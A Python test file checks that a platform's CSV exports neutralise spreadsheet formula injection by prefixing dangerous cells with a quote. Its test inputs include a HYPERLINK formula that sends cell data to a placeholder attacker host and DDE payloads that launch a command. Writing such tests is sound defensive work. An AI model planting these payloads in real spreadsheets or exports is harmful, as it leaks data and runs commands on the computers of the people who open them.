"""CSV exports never hand a spreadsheet a formula to run (OWASP CSV injection), and never turn
a plain negative number into text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from xinyong.kit.spreadsheet import csv_text, safe_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "xinyong"


def cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        '＝HYPERLINK("http://evil.example")',
        "-",
        "-1e5",
    ],
)
def test_a_cell_that_could_start_a_formula_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value
    assert cells(csv_text(["名称"], [[value]]))[1] == ["'" + value]


@pytest.mark.parametrize("value", [-5, -0.25, "-5", "-0.25", "12", "杭州=西湖", "a-b", "", None])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_header_cells_are_neutralised_too():
    assert cells(csv_text(["=1+1", "计数"], [[1, -3]])) == [["'=1+1", "计数"], ["1", "-3"]]


def test_every_csv_the_platform_exports_is_written_by_csv_text():
    """One writer, so no export can skip the neutralisation. The readers parse CSV and the
    synthetic-data generator writes import files, not exports of stored data."""
    writers = {
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert {w for w in writers if not w.startswith("synth/")} == {"kit/spreadsheet.py"}
